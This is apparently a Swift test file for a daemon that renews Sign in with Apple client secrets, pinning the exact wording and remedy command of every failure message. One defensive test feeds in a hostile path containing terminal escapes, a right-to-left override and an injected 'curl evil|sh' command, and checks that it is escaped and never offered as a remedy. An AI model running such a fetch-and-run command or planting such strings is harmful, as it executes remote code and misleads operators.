import AppleClientSecret
import Failures
import Model
import Rotation
import Testing

/// The exact words of every failure. A new code does not compile here until its words are written down.
@Suite struct FailureTests {
    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
    func everyCodeHasItsWords(code: Failure.Code) throws {
        let place = try #require(Self.place(of: code))
        #expect(Failure(code, at: place).sentence == Self.expected(code))
    }

    @Test func messagesNameDetailAndCause() throws {
        let path = Failure.Place.path(try #require(AbsolutePath("/srv/a b/web.jwt")))
        #expect(
            Failure(.permissionDenied, at: path, cause: 13, detail: "/srv/a b belongs to alice (1000)").message
                == "/srv/a b/web.jwt: the user that writes it may not enter its directory or write there: /srv/a b belongs to alice (1000) (permission denied)"
        )
        #expect(
            Failure(.systemError, at: path, cause: 4095).sentence
                == "/srv/a b/web.jwt: the system refused (errno 4095); "
                + "see what is there and who owns it (namei -l '/srv/a b/web.jwt')")
        #expect(Failure(.ioError, at: path, cause: 116, detail: "").message.hasSuffix("fails (stale file handle)"))
        #expect(Failure(.diskFull, at: path).remedy?.description == "make room (df -h '/srv/a b')")
    }

    @Test func whoeverMetItKnowsBetterThanItsCode() throws {
        let path = Failure.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
        let failure = Failure(
            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .say("close it", run: .reload))
        #expect(
            failure.message == "/srv/web.jwt: other users may write to a directory in its path: /srv (not permitted)")
        #expect(failure.remedy?.command == "clientsecretd reload")
        #expect(failure.sentence == failure.message + "; close it: clientsecretd reload")
        #expect(Failure(.unguardedDirectory, at: path).remedy?.command == nil)
    }

    /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
    func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
        let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
        let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
        let detailed = Failure(code, at: try #require(Self.place(of: code)), detail: evil)
        #expect(detailed.message.contains(": " + escaped))
        #expect(detailed.remedy?.description.contains("curl evil") != true)
        let placed = Failure(code, at: .path(try #require(AbsolutePath(evil))))
        #expect(placed.message.hasPrefix(escaped))
        #expect(placed.remedy?.command?.contains("evil") != true)
        for text in [detailed.sentence, placed.sentence] {
            #expect(text.unicodeScalars.allSatisfy { !$0.isUnprintable })
        }
    }

    @Test func theCommandFitsThePlace() throws {
        let exec = Action.exec(arguments: ["/usr/bin/hook", "a b"], timeout: 30).id
        #expect(
            Failure(.actionFailed, at: .action(exec), detail: "exit status 3").sentence
                == "exec /usr/bin/hook 'a b': failed: exit status 3; try it by hand as the daemon's user (/usr/bin/hook 'a b')"
        )
        let signal = Action.signal(unit: "a.service", signal: "SIGHUP").id
        #expect(
            Failure(.actionFailed, at: .action(signal)).remedy?.description == "see why (systemctl status a.service)")
        #expect(
            Failure(.systemError, at: .named("credential socket"), cause: 22).remedy?.description
                == "see what came before it (journalctl -u clientsecretd)")
        let path = Failure.Place.path(try #require(AbsolutePath("/run/web.jwt")))
        #expect(Failure(.noSecret, at: path).remedy?.description == "clientsecretd renew")
        #expect(
            Failure(.unknownGroup, at: path, detail: "www").remedy?.description
                == "fix the name, or add the group")
    }

    /// A place of the kind that the code is about.
    private static func place(of code: Failure.Code) -> Failure.Place? {
        switch code {
        case .credentialMissing: .credential("apple-key")
        case .signingFailed, .selfCheckFailed, .noSecret, .secretUnacceptable, .secretExpired, .secretExpiring,
            .renewalOverdue, .noOutputs,
            .signatureUnchecked,
            .notPublished, .notDelivered, .refusedByApple, .verdictUnknown, .verifierMissing, .verifierSilent,
            .rolloutHeld:
            ClientName("web").map { .client($0) }
        case .keyNeedsPassphrase, .keyChanged, .publicKeyUnusable: KeyName("apple").map { .key($0) }
        case .unknownUser, .unknownGroup: .named("www data")
        case .clockBeforeBuild, .clockDoubtful, .clockPerhapsAhead: .clock
        case .pushUnconfigured, .pushTokenUnusable, .pushCredentialsRefused, .pushPlaceMissing,
            .pushRateLimited, .pushQuotaExceeded, .pushDeploymentFailed, .pushDeploymentCancelled, .pushTargetUnknown,
            .pushSecondFactorWanted, .pushChangeRefused, .pushPlaceUnsuitable, .pushImmutable, .pushOthersBlank,
            .pushEnvironmentsConflict, .pushServerFailed, .pushUnreachable,
            .pushTimedOut,
            .pushCertificateRefused, .pushRedirected, .pushConflict, .pushRejected,
            .pushAnswerUnexpected, .pushServiceMissing, .pushServiceSilent:
            .named("production")
        case .storeUnconfigured, .storeFileUnusable, .storeCredentialsRefused, .storeCertificateRefused,
            .storeServerUntrusted, .storeCertificateExpiring, .storeForbidden, .storeOutOfSpace, .storeUnreachable,
            .storeTimedOut, .storeUnavailable, .storeAnswerUnexpected, .storeSecretTooLong, .storeMachineShared,
            .storeServiceMissing, .storeServiceSilent:
            .store
        case .actionFailed, .actionTimedOut, .actionNotStarted, .actionInterrupted, .unitNotPermitted, .polkitMissing,
            .unitUnknown, .unitMasked, .unitRefused, .busUnreachable, .jobFailed, .jobTimedOut, .jobCanceled,
            .jobDependency, .jobSkipped, .unitFailed, .unitEnded:
            .action(ActionID("restart a.service"))
        default: AbsolutePath("/d/f.p8").map { .path($0) }
        }
    }

    private static func expected(_ code: Failure.Code) -> String {
        switch code {
        case .keyMissing:
            #"/d/f.p8: there is no such key file; copy the .p8 file there, or fix "file" in the configuration"#
        case .keyUnreadable:
            #"/d/f.p8: the key cannot be read; let only the daemon's user read the file, or pass it as a systemd credential"#
        case .keyNotGuarded:
            #"/d/f.p8: other users can read or replace the key"#
        case .keyEmpty:
            #"/d/f.p8: the key file is empty; copy the .p8 file again"#
        case .keyTruncated:
            #"/d/f.p8: the key file ends in the middle; copy the .p8 file again"#
        case .keyTooLarge:
            #"/d/f.p8: too large for a private key; name the .p8 file that Apple gave you"#
        case .keyNotPEM:
            #"/d/f.p8: not a PEM file; name the .p8 file that Apple gave you"#
        case .keyIsPublic:
            #"/d/f.p8: a public key, not the private one; name the .p8 file that Apple gave you"#
        case .keyIsCertificate:
            #"/d/f.p8: a certificate, not a private key; name the .p8 file that Apple gave you"#
        case .keyIsRSA:
            #"/d/f.p8: an RSA key, but Apple's keys are P-256; create a key for Sign in with Apple in Apple's developer account and name its .p8 file"#
        case .keyWrongCurve:
            #"/d/f.p8: an EC key on another curve than P-256; create a key for Sign in with Apple in Apple's developer account and name its .p8 file"#
        case .keyIsSEC1:
            #"/d/f.p8: an encrypted EC PRIVATE KEY (SEC1), but only PKCS#8 may be encrypted; convert it to PKCS#8 with openssl pkcs8 -topk8"#
        case .keyMalformed:
            #"/d/f.p8: the private key cannot be decoded; copy the .p8 file again"#
        case .keyNeedsPassphrase:
            #"key "apple": the key is encrypted and no passphrase is configured; write "passphrase_file" or "passphrase_credential" under the key"#
        case .keyWrongPassphrase:
            #"/d/f.p8: the passphrase does not open the key; try the passphrase by hand (openssl pkey -in /d/f.p8 -noout)"#
        case .keyTooCostly:
            "/d/f.p8: the key is encrypted with more iterations than are allowed; "
                + "encrypt it again with less; once the key works, remove /d/f.p8.old, which holds it too (test ! -e /d/f.p8.old && cp -p /d/f.p8 /d/f.p8.old && openssl pkcs8 -topk8 -iter 600000 -in /d/f.p8.old >/d/f.p8)"
        case .keyChanged:
            #"key "apple": the file now holds a different key under the same key id, probably by mistake: Apple never reuses a key id; restore the previous file"#
        case .sourceStale:
            "/d/f.p8: the source offers no newer secret; "
                + "see whether the machine that renews it and what copies it here still work (ls -ld /d/f.p8)"
        case .sourceWrong:
            "/d/f.p8: the secret in the source is not accepted; see what was put there, and compare public_key with what "
                + #""clientsecretd public-key" prints where the key is (clientsecretd inspect /d/f.p8)"#
        case .sourceMissing:
            "/d/f.p8: the source is missing or empty; see whether what copies it here works (ls -ld /d/f.p8)"
        case .sourceUnreadable:
            "/d/f.p8: the source cannot be read; let the daemon's user read it (namei -l /d/f.p8)"
        case .publicKeyUnusable:
            #"key "apple": "public_key" is not a P-256 key; write what "clientsecretd public-key" prints on the machine that has the private key"#
        case .passphraseUnusable:
            #"/d/f.p8: the passphrase cannot be used; write only the passphrase into that file, readable only by the daemon's user"#
        case .credentialMissing:
            #"credential "apple-key": systemd has not passed this credential; add LoadCredential=apple-key:/path/to/file to the daemon's unit and restart it"#
        case .signingFailed:
            #"client "web": the key did not sign; restart the daemon; if it fails again, suspect this machine's OpenSSL"#
        case .selfCheckFailed:
            #"client "web": the new secret failed the check with the key's public half and was discarded; restart the daemon; if it fails again, suspect this machine's memory or OpenSSL"#
        case .missing:
            "/d/f.p8: there is no such file"
        case .notGuarded:
            "/d/f.p8: other users can read or replace it"
        case .directoryMissing:
            #"/d/f.p8: its directory does not exist; create it, owned by the user that writes the file"#
        case .notADirectory:
            #"/d/f.p8: part of its path is not a directory; write another path"#
        case .permissionDenied:
            #"/d/f.p8: the user that writes it may not enter its directory or write there; let the daemon's user enter /d and write there, or write another path"#
        case .readOnlyFileSystem:
            #"/d/f.p8: the file system is read-only; mount it writable, or add ReadWritePaths=-/d to the daemon's unit"#
        case .diskFull:
            #"/d/f.p8: the disk is full; make room (df -h /d)"#
        case .quotaExceeded:
            #"/d/f.p8: the disk quota is used up; make room, or raise the quota of the daemon's user"#
        case .ioError:
            #"/d/f.p8: the disk or file server fails; look at what the kernel says (dmesg)"#
        case .isDirectory:
            #"/d/f.p8: it is a directory, not a file; write another path"#
        case .isMountPoint:
            #"/d/f.p8: a mount point, which cannot be replaced; mount its directory instead"#
        case .isImmutable:
            #"/d/f.p8: it is immutable or append-only; remove that attribute, if nothing else needs it"#
        case .notARegularFile:
            #"/d/f.p8: not a regular file; remove it, or write another path"#
        case .outputIsInput:
            "/d/f.p8: the daemon reads this file, such as a key, so it is never written; "
                + "write another path for this output"
        case .sameFile:
            "/d/f.p8: it is the same file as another output; write one path for both, or another for this one"
        case .outputForeign:
            "/d/f.p8: the file holds other content, which is not overwritten; "
                + "write the format that the file has, or another path; or remove the file if it is not needed"
        case .fileTooLarge:
            #"/d/f.p8: the file is too large; shorten it, or write another path"#
        case .foreignOwner:
            #"/d/f.p8: the file belongs to another user and is not changed; write "as:" and the file's owner under the output, or another path"#
        case .untrustedLink:
            #"/d/f.p8: a symbolic link in its path is not followed, because other users can change it; remove the link, or write another path"#
        case .unguardedDirectory:
            #"/d/f.p8: other users may write to a directory in its path; remove that permission, or write another path"#
        case .tooManyLinks:
            #"/d/f.p8: too many symbolic links in its path; write a shorter path, without links"#
        case .unknownUser:
            #"www data: there is no such user; fix the name, or add the user"#
        case .unknownGroup:
            #"www data: there is no such group; fix the name, or add the group"#
        case .groupNotPermitted:
            #"/d/f.p8: the user that writes it may not give files to this group; add the daemon's user to that group and restart the daemon"#
        case .outsideSandbox:
            #"/d/f.p8: the unit's sandbox does not allow it"#
        case .attributesNotKept:
            #"/d/f.p8: the file's attributes could not be kept; remove the attributes, or write to another file system"#
        case .changedMeanwhile:
            #"/d/f.p8: another program changed it at the same time, again and again; find out which other program writes it (inotifywait -m /d)"#
        case .outputMalformed:
            #"/d/f.p8: its content cannot be read or edited safely; fix that line"#
        case .nameTooLong:
            #"/d/f.p8: the path is too long; write a shorter path, without links"#
        case .outOfDescriptors:
            #"/d/f.p8: too many files are open; raise LimitNOFILE= of the daemon's unit"#
        case .outOfMemory:
            #"/d/f.p8: out of memory; make room, or raise MemoryMax= of the daemon's unit"#
        case .notResponding:
            #"/d/f.p8: not responding; check whether it hangs for other programs too"#
        case .systemError:
            #"/d/f.p8: the system refused; see what is there and who owns it (namei -l /d/f.p8)"#
        case .outputDeleted:
            #"/d/f.p8: the file was deleted with its other lines, and is not created again without them; restore the file with its other lines; the secret is then added"#
        case .contested:
            #"/d/f.p8: another program keeps changing it; find out which other program writes it (inotifywait -m /d)"#
        case .writerMissing:
            #"/d/f.p8: no writer can be reached for its user; have systemd start it for that user"#
        case .writerNotPermitted:
            #"/d/f.p8: the writer for its user takes no requests from this one; run this as root or as the daemon's user, whom the writer's unit names"#
        case .writerSilent:
            #"/d/f.p8: the writer for its user gave no answer; see what it says (journalctl -u 'clientsecretd-writer@*')"#
        case .writerGarbled:
            #"/d/f.p8: the writer for its user gave an answer that cannot be read; see what it says (journalctl -u 'clientsecretd-writer@*')"#
        case .writerRefused:
            #"/d/f.p8: the writer for its user refuses; reload it: clientsecretd reload"#
        case .writerUnconfigured:
            #"/d/f.p8: the writer for its user cannot use the configuration; let its user read the configuration, which belongs to root"#
        case .stateUnusable:
            #"/d/f.p8: the state directory cannot be used, so nothing is remembered over a reboot; name a directory that belongs to the daemon's user as "state_dir""#
        case .stateDamaged:
            #"/d/f.p8: a damaged record was set aside"#
        case .stateNewer:
            #"/d/f.p8: a record of a newer version was set aside"#
        case .stateLocked:
            #"/d/f.p8: another daemon uses the state directory; stop the other one, or give this one a "state_dir" of its own"#
        case .actionFailed:
            #"restart a.service: failed; see why (systemctl status a.service)"#
        case .actionTimedOut:
            #"restart a.service: took longer than its timeout and was ended; make it faster, or give it a longer "timeout""#
        case .actionNotStarted:
            #"restart a.service: could not be started; see that it exists and that the daemon's user may run it"#
        case .actionInterrupted:
            #"restart a.service: was ended because the daemon stopped"#
        case .unitNotPermitted:
            "restart a.service: systemd may not do this for the daemon's user; "
                + "add a rule for it below /etc/polkit-1/rules.d (clientsecretd check)"
        case .polkitMissing:
            "restart a.service: systemd may not do this for the daemon's user, and polkit is not installed; "
                + "apt-get install polkitd, and see which rule it needs (clientsecretd check)"
        case .unitUnknown:
            "restart a.service: there is no such unit; "
                + "fix the unit's name, or see what there is (systemctl list-unit-files)"
        case .unitMasked:
            "restart a.service: the unit is masked; unmask it: systemctl unmask a.service"
        case .unitRefused:
            "restart a.service: systemd does not do this; see why (systemctl status a.service)"
        case .unitFailed:
            "restart a.service: the unit has failed, and this does not start it; start it: systemctl start a.service"
        case .unitEnded:
            "restart a.service: the unit was started and ended within seconds; see why (systemctl status a.service)"
        case .busUnreachable:
            "restart a.service: systemd cannot be asked over the bus; "
                + "see whether the bus runs (systemctl status dbus.socket)"
        case .jobFailed:
            "restart a.service: its job failed; see why (systemctl status a.service)"
        case .jobTimedOut:
            "restart a.service: its job took too long; see why (systemctl status a.service)"
        case .jobCanceled:
            "restart a.service: its job was canceled, or another took its place; "
                + "see why (systemctl status a.service)"
        case .jobDependency:
            "restart a.service: a unit that it needs failed; see which (systemctl list-dependencies a.service)"
        case .jobSkipped:
            "restart a.service: systemd skipped its job, because the unit's state had changed; "
                + "see why (systemctl status a.service)"
        case .noSecret:
            #"client "web": there is no usable secret; clientsecretd renew web"#
        case .secretUnacceptable:
            #"client "web": holds a secret that Apple refuses; clientsecretd renew web"#
        case .clockPerhapsAhead:
            "the clock: is not synchronised and may be ahead, so no secret is replaced that may still be valid; "
                + "set the clock, or see why it is not synchronised (timedatectl)"
        case .secretExpired:
            #"client "web": the secret has expired; clientsecretd renew web"#
        case .secretExpiring:
            #"client "web": the secret expires soon; clientsecretd renew web"#
        case .renewalOverdue:
            #"client "web": the secret should have been renewed by now; see what is in the way (clientsecretd status)"#
        case .signatureUnchecked:
            #"client "web": its signature was not checked, because this user may not read the key; run this as root (sudo clientsecretd health --offline)"#
        case .notReadable:
            "/d/f.p8: this user may not read it; run this as root (sudo clientsecretd health)"
        case .noOutputs:
            #"client "web": it has no output, so only the daemon knows its secret"#
        case .notPublished:
            #"client "web": the current secret is not in all of its outputs yet; the daemon tries again; to do it now (clientsecretd renew --deliver-only web)"#
        case .notDelivered:
            #"client "web": the current secret is published, but not all actions of on_change have run for it; clientsecretd renew --deliver-only web"#
        case .refusedByApple:
            #"client "web": Apple refused the new secret; compare key id, team id and client id with Apple's developer account"#
        case .verdictUnknown:
            #"client "web": Apple gave no verdict on the new secret; see whether this machine reaches Apple (curl -sS -o /dev/null https://appleid.apple.com/auth/keys)"#
        case .verifierMissing:
            #"client "web": the service that asks Apple about new secrets cannot be reached; systemctl enable --now clientsecretd-verify.socket"#
        case .verifierSilent:
            #"client "web": the service that asks Apple about new secrets gave no answer that can be read; see what it says (journalctl -u 'clientsecretd-verify@*')"#
        case .storeUnconfigured:
            #"the store: the service that connects to the store has none in its configuration; write "store" with its "endpoints" in the configuration that the service reads"#
        case .storeFileUnusable:
            #"the store: a file for the store cannot be used; check that the service gets it (systemctl cat clientsecretd-store.service)"#
        case .storeCredentialsRefused:
            #"the store: etcd refuses the user or its password; give the user of "store" a password in etcd, write it into the password file, then reload (systemctl reload clientsecretd.service)"#
        case .storeCertificateRefused:
            #"the store: etcd refuses this machine's certificate; make one without a CN that etcd's authority signs and that has not expired"#
        case .storeCertificateExpiring:
            #"the store: this machine's certificate for etcd expires soon; replace it, then reload (systemctl reload clientsecretd.service)"#
        case .storeServerUntrusted:
            #"the store: the certificate of etcd is not trusted; check this machine's clock, and that "ca_file" holds the authority that signed it for this address"#
        case .storeForbidden:
            #"the store: the user's role in etcd does not allow it; grant its role the keys that docs/fleet-etcd.md names"#
        case .storeOutOfSpace:
            #"the store: etcd has reached its quota and refuses writes; compact it, and disarm its alarm (etcdctl alarm list)"#
        case .storeUnreachable:
            #"the store: no member of the store can be reached; see whether etcd runs, and whether a firewall is in the way"#
        case .storeTimedOut:
            #"the store: the store did not answer in time; see whether etcd is overloaded"#
        case .storeUnavailable:
            #"the store: the store has no leader, or cannot answer; check its members (etcdctl endpoint status --cluster)"#
        case .storeAnswerUnexpected:
            #"the store: this is not an answer from etcd's JSON gateway; see whether "endpoints" are etcd's, and whether its gateway is on"#
        case .storeSecretTooLong:
            #"the store: the secret is too long for the store"#
        case .storeMachineShared:
            #"the store: another machine reports under the same name; give each of them its own "machine" below "store" in the configuration"#
        case .rolloutHeld:
            #"client "web": the rollout of its new secret is held; see which machines fail with it; then resume or finish it (clientsecretd rollout show web)"#
        case .storeServiceMissing:
            #"the store: the service that asks the store cannot be reached; systemctl enable --now clientsecretd-store.socket"#
        case .storeServiceSilent:
            #"the store: the service that asks the store gave no answer that can be read; see what it says (journalctl -u clientsecretd-store.service)"#
        case .pushUnconfigured:
            #"production: the service that pushes cannot use its configuration; fix what it reports (clientsecretd check)"#
        case .pushTokenUnusable:
            #"production: the target's token cannot be used; write the token alone into its file, and name that in "token_credential" or "token_file""#
        case .pushCredentialsRefused:
            #"production: the API refuses the token; make a token that may do this, and put it in the place of the old one"#
        case .pushPlaceMissing:
            #"production: the API knows no such place; fix the target's settings, or make the place there"#
        case .pushRateLimited:
            #"production: the API wants to be asked less often; wait: the daemon tries again"#
        case .pushQuotaExceeded:
            #"production: a quota of the API is used up; raise it there, or remove something there"#
        case .pushDeploymentFailed:
            #"production: the new deployment failed; see its log there"#
        case .pushServerFailed:
            #"production: the API reports a server error; wait: the daemon tries again"#
        case .pushUnreachable:
            #"production: the API cannot be reached; see whether this machine has a network, and whether a firewall or a proxy is in the way"#
        case .pushTimedOut:
            #"production: the API did not answer in time; wait: the daemon tries again"#
        case .pushCertificateRefused:
            #"production: the API's certificate is not trusted; check this machine's clock and its ca-certificates, or name the API's authority in "ca_file""#
        case .pushRedirected:
            #"production: the API redirects to another address, which is not followed; write that address as "endpoint""#
        case .pushConflict:
            #"production: another program keeps changing the place; find out which other program writes there"#
        case .pushRejected:
            #"production: the API did not take what it was sent; fix the target's settings as the API says"#
        case .pushAnswerUnexpected:
            #"production: this is not an answer from that API; see whether "endpoint" is the API's address"#
        case .pushDeploymentCancelled:
            #"production: the new deployment was cancelled; let the project build it (Ignored Build Step, or ignore in netlify.toml), or see there who cancelled it"#
        case .pushTargetUnknown:
            #"production: the configuration of the service that pushes has no such target; have the service read the configuration that the daemon reads"#
        case .pushSecondFactorWanted:
            #"production: the API wants a second factor of this user; name a "user" without multi-factor authentication, which no service can answer"#
        case .pushChangeRefused:
            #"production: the API accepts the token and refuses this change; do what its message says; the token may be allowed to read and not to write"#
        case .pushPlaceUnsuitable:
            #"production: the place holds something that this target does not write, and is not changed; change the target's settings to fit what is there, or name another place"#
        case .pushImmutable:
            #"production: the Secret is immutable; create it again without "immutable: true", or name another one"#
        case .pushOthersBlank:
            #"production: this version of PocketBase wants the secrets of all other providers with every change; update PocketBase to 0.40.1 or later"#
        case .pushEnvironmentsConflict:
            #"production: the project has this variable for other environments; remove it from these environments in the project, or list the same ones in "environments""#
        case .pushServiceMissing:
            #"production: the service that pushes to it cannot be reached; systemctl enable --now clientsecretd-push@production.socket"#
        case .pushServiceSilent:
            #"production: the service that pushes to it gave no answer that can be read; see what it says (journalctl -u clientsecretd-push@production.service)"#
        case .clockBeforeBuild:
            #"the clock: shows a time before this program was built, so nothing is minted; set the clock, or see why it is not synchronised (timedatectl)"#
        case .clockDoubtful:
            #"the clock: is not synchronised and is behind one of our secrets, so nothing is minted; set the clock, or see why it is not synchronised (timedatectl)"#
        case .configurationRefused:
            #"/d/f.p8: the configuration would not start; see everything that is wrong (clientsecretd check)"#
        case .configurationNotAdopted:
            #"/d/f.p8: the configuration is valid now, but the last good one from before the start is still current; clientsecretd reload"#
        case .socketUnusable:
            #"/d/f.p8: the socket cannot be used; remove the file there, or name another socket with --socket, and restart the daemon"#
        case .credentialSocketUnusable:
            #"/d/f.p8: the socket cannot be used, so no unit can load a credential from it; let systemd create it: systemctl enable --now clientsecretd-credentials.socket"#
        case .metricsFileUnwritable:
            #"/d/f.p8: the metrics_file cannot be written, so node_exporter shows old metrics or none; see what is missing (clientsecretd check)"#
        }
    }
}
